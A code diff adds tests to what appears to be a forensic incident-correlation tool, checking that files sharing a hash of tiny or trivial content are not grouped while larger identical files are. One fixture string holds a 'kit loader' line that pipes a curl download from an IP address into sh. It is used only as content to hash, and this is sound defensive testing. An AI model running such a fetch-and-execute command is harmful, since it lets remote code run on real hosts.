@@ -3,10 +3,12 @@
  * system and writable folders, root, a reused pid), every finding in exactly one incident,
  * determinism under shuffled input, the story's order and gaps, hostile text kept one line.
  */
+import { createHash } from 'node:crypto';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { IncidentsFileSchema } from '../../src/evidence/bundle-schemas.js';
 import type { AccountRecord } from '../../src/model/access.js';
+import type { ChangedFile, SetuidFile } from '../../src/model/activity.js';
 import type { AuthLoginRecord } from '../../src/model/auth.js';
 import type { KnownFacts } from '../../src/model/facts.js';
 import type { Finding, FindingSubject, Severity } from '../../src/model/finding.js';
@@ -215,6 +217,60 @@ describe('never joined on coincidence', () => {
     const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
     const fs = [finding('file.new-executable', { path: '/srv/a/x', sha256: empty }), finding('file.new-executable', { path: '/srv/b/y', sha256: empty })];
     expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
+  });
+
+  describe('the same sha256 on tiny or trivial content', () => {
+    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
+    const changed = (p: string, content: string, size = Buffer.byteLength(content)) =>
+      ({ path: p, type: 'file', linkTarget: null, mode: 0o755, uid: 0, gid: 0, size, ino: '1', atime: null, mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, inWindow: ['mtime'], executable: 'script', sha256: sha(content), md5: null, writableDir: '/tmp', hiddenDir: null, area: '/tmp' }) as unknown as ChangedFile;
+    const setuid = (p: string, content: string) =>
+      ({ path: p, mode: 0o4755, uid: 0, gid: 0, size: Buffer.byteLength(content), mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, sha256: sha(content), package: null, packaged: false }) as unknown as SetuidFile;
+
+    /** 4,300 identical scripts, each in its own folder of a temp tree, and a setuid file with the same bytes. */
+    function scene(content: string) {
+      const scripts = Array.from({ length: 4300 }, (_, i) => changed(`/tmp/build/pkg${i}/run`, content));
+      const stub = setuid('/srv/s/stub', content);
+      const fs = renumber([...scripts.map((c) => finding('file.new-executable', { path: c.path, uid: 0, sha256: c.sha256, mtime: c.mtime })), finding('file.setuid-unpackaged', { path: stub.path, uid: 0, sha256: stub.sha256 })]);
+      return { fs, facts: { changedFiles: scripts, setuidFiles: [stub] } as KnownFacts };
+    }
+
+    it('a few-byte stub shared by 4,300 scripts and a setuid file joins nothing', () => {
+      const { fs, facts } = scene('#!/bin/sh\necho ok\n');
+      const r = buildIncidents(fs, facts);
+      expect(r.incidents).toHaveLength(fs.length);
+      expect(r.incidents.every((i) => i.findings.length === 1 && i.joins.length === 0)).toBe(true);
+      expect(r.incidents.flatMap((i) => i.subjects.sha256)).toEqual([]);
+    });
+
+    it('the same bytes past the minimum size do join: the control of the test above', () => {
+      const { fs, facts } = scene(`#!/bin/sh\n${'# kit loader '.repeat(8)}\ncurl -s http://198.51.100.4/k | sh\n`);
+      const r = buildIncidents(fs, facts);
+      expect(r.incidents).toHaveLength(1);
+      expect(r.incidents[0]!.findings).toHaveLength(4301);
+      expect(new Set(r.incidents[0]!.joins.map((j) => j.reason))).toEqual(new Set(['same-executable']));
+    });
+
+    it('trivial content never joins, whatever size a fact claims; a file hash of unknown size does not either', () => {
+      const trivial = sha('#!/bin/sh\nexit 0\n');
+      const lying = [changed('/srv/a/x', '#!/bin/sh\nexit 0\n', 4096), changed('/srv/b/y', '#!/bin/sh\nexit 0\n', 4096)];
+      const fs = renumber([finding('file.new-executable', { path: '/srv/a/x', sha256: trivial }), finding('file.new-executable', { path: '/srv/b/y', sha256: trivial })]);
+      expect(buildIncidents(fs, { changedFiles: lying }).incidents).toHaveLength(2);
+      const unknown = renumber([finding('yara.match', { path: '/srv/c/z', sha256: 'e'.repeat(64) }), finding('yara.match', { path: '/srv/d/w', sha256: 'e'.repeat(64) })]);
+      expect(buildIncidents(unknown, {}).incidents).toHaveLength(2);
+      // The finding's own size counts when the facts have none.
+      const sized = unknown.map((f) => ({ ...f, subject: { ...f.subject, size: 70_000 } }));
+      expect(buildIncidents(sized, {}).incidents).toHaveLength(1);
+    });
+
+    it('a live process whose executable is a tiny file shares nothing with its copies', () => {
+      const content = '\x7fELF tiny';
+      const a = proc({ pid: 60, comm: 'a', exe: '/srv/x/a', cwd: '/', exeSha256: sha(content) });
+      const b = proc({ pid: 61, comm: 'b', exe: '/opt/y/b', cwd: '/', exeSha256: sha(content) });
+      const fs = renumber([finding('process.known-tool', procSubject(a)), finding('process.known-tool', procSubject(b))]);
+      expect(buildIncidents(fs, { processes: [a, b], changedFiles: [changed('/srv/x/a', content)] }).incidents).toHaveLength(2);
+      // Without a size the executable of a live process is trusted: the kernel runs binaries, not stubs.
+      expect(buildIncidents(fs, { processes: [a, b] }).incidents).toHaveLength(1);
+    });
   });
 
   it('/etc/passwd is not a shared subject: two new accounts are two incidents', () => {
